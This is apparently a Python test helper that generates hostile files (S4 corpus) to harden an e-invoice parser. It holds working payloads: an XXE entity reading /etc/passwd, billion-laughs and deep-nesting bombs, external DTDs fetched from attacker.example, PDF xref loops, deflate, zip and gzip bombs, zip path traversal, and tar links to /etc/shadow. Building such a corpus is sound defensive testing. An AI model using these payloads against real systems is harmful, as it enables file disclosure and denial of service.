"""Builders of the hostile-file corpus (S4), generated in the test process: nothing is stored.

Each builder returns bytes; sizes are chosen so that the naive handling (inflating everything,
following every reference) would cost gigabytes or loop for ever, while building stays cheap.
"""

import io
import tarfile
import zipfile
import zlib

import pikepdf

MB = 1024 * 1024

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">
&x;</rsm:CrossIndustryInvoice>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd">
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>"""

# Deeply nested elements: a recursion bomb for naive tree walkers.
DEEP_NESTING = b"<?xml version='1.0'?>" + b"<a>" * 100_000 + b"</a>" * 100_000


def blank_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def encrypted_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buffer = io.BytesIO()
    pdf.save(buffer, encryption=pikepdf.Encryption(owner="o", user="secret", R=6))
    return buffer.getvalue()


def _raw_pdf(objects: list[bytes], *, trailer: bytes, prev_self: bool = False) -> bytes:
    """A hand-written PDF (objects numbered from 1) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    extra = b" /Prev %d" % xref if prev_self else b""
    out += b"trailer\n<< /Size %d %s%s >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer,
        extra,
        xref,
    )
    return bytes(out)


def xref_loop_pdf() -> bytes:
    """The trailer's /Prev points back at the same xref section, and the page tree at itself."""
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
        ],
        trailer=b"/Root 1 0 R",
        prev_self=True,
    )


def deflate_bomb_pdf(inflated: int = 100 * MB) -> bytes:
    """One page whose content stream is ~100 KB deflated and `inflated` bytes once inflated."""
    compressor = zlib.compressobj(1)
    chunk = b" " * MB
    body = b"".join(compressor.compress(chunk) for _ in range(inflated // MB)) + compressor.flush()
    return _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream",
        ],
        trailer=b"/Root 1 0 R",
    )


def facturx_with(xml: bytes, *, name: str = "factur-x.xml") -> bytes:
    """A PDF carrying `xml` as its embedded Factur-X file."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments[name] = pikepdf.AttachedFileSpec(pdf, xml, mime_type="text/xml")
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def facturx_attachment_bomb(inflated: int = 100 * MB) -> bytes:
    """A Factur-X whose embedded XML is a deflate bomb (small file, `inflated` bytes of XML)."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    compressor = zlib.compressobj(1)
    head = b"<?xml version='1.0'?><rsm:CrossIndustryInvoice xmlns:rsm='urn:x'>"
    parts = [compressor.compress(head)]
    chunk = b" " * MB
    parts += [compressor.compress(chunk) for _ in range(inflated // MB)]
    parts.append(compressor.flush())
    stream = pikepdf.Stream(pdf, b"".join(parts))
    stream.Filter = pikepdf.Name.FlateDecode
    stream.Type = pikepdf.Name.EmbeddedFile
    spec = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec,
            F=pikepdf.String("factur-x.xml"),
            UF=pikepdf.String("factur-x.xml"),
            EF=pikepdf.Dictionary(F=stream, UF=stream),
        )
    )
    pdf.Root.Names = pikepdf.Dictionary(
        EmbeddedFiles=pikepdf.Dictionary(
            Names=pikepdf.Array([pikepdf.String("factur-x.xml"), spec])
        )
    )
    buffer = io.BytesIO()
    pdf.save(buffer, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return buffer.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_bomb(member_size: int = 64 * MB) -> bytes:
    """One member of `member_size` zeros (about 64 KB deflated): above the per-file cap."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("bombe.xml", "w", force_zip64=True) as handle,
    ):
        chunk = b"\0" * MB
        for _ in range(member_size // MB):
            handle.write(chunk)
    return buffer.getvalue()


def zip_lying_sizes(member_size: int = 64 * MB) -> bytes:
    """The central directory claims 100 bytes; the deflated data inflates to `member_size`."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = b"".join(compressor.compress(b"\0" * MB) for _ in range(member_size // MB))
    body += compressor.flush()
    crc = 0
    for _ in range(member_size // MB):
        crc = zlib.crc32(b"\0" * MB, crc)
    name = b"menteur.xml"
    local = (
        b"PK\x03\x04"
        + (20).to_bytes(2, "little")
        + (0).to_bytes(2, "little")
        + (8).to_bytes(2, "little")
        + (0).to_bytes(4, "little")
        + crc.to_bytes(4, "little")
        + len(body).to_bytes(4, "little")
        + (100).to_bytes(4, "little")  # the lie
        + len(name).to_bytes(2, "little")
        + (0).to_bytes(2, "little")
        + name
    )
    central = (
        b"PK\x01\x02"
        + (20).to_bytes(2, "little")
        + (20).to_bytes(2, "little")
        + (0).to_bytes(2, "little")
        + (8).to_bytes(2, "little")
        + (0).to_bytes(4, "little")
        + crc.to_bytes(4, "little")
        + len(body).to_bytes(4, "little")
        + (100).to_bytes(4, "little")
        + len(name).to_bytes(2, "little")
        + (0).to_bytes(2, "little") * 3
        + (0).to_bytes(4, "little") * 2
        + name
    )
    offset = len(local) + len(body)
    end = (
        b"PK\x05\x06"
        + (0).to_bytes(2, "little") * 2
        + (1).to_bytes(2, "little") * 2
        + len(central).to_bytes(4, "little")
        + offset.to_bytes(4, "little")
        + (0).to_bytes(2, "little")
    )
    return local + body + central + end


def zip_with_traversal(good: bytes) -> bytes:
    return zip_of(
        {
            "../../etc/cron.d/evil.xml": b"<x/>",
            "/etc/passwd.xml": b"<x/>",
            "..\\..\\windows\\evil.xml": b"<x/>",
            ".cache.xml": b"<x/>",
            "lot/bonne.xml": good,
        }
    )


def zip_many_members(count: int = 501) -> bytes:
    return zip_of({f"f{i}.xml": b"<x/>" for i in range(count)})


def tar_with_links(good: bytes) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        link = tarfile.TarInfo("lien.xml")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        archive.addfile(link)
        hard = tarfile.TarInfo("dur.xml")
        hard.type = tarfile.LNKTYPE
        hard.linkname = "/etc/shadow"
        archive.addfile(hard)
        info = tarfile.TarInfo("bonne.xml")
        info.size = len(good)
        archive.addfile(info, io.BytesIO(good))
    return buffer.getvalue()


def gzip_bomb(member_size: int = 64 * MB) -> bytes:
    """A tar.gz whose single member is `member_size` zeros."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=1) as archive:
        info = tarfile.TarInfo("bombe.xml")
        info.size = member_size

        class Zeros(io.RawIOBase):
            def __init__(self):
                self.left = member_size

            def readable(self):
                return True

            def readinto(self, b):
                n = min(len(b), self.left)
                b[:n] = b"\0" * n
                self.left -= n
                return n

        archive.addfile(info, io.BufferedReader(Zeros(), 4 * MB))
    return buffer.getvalue()
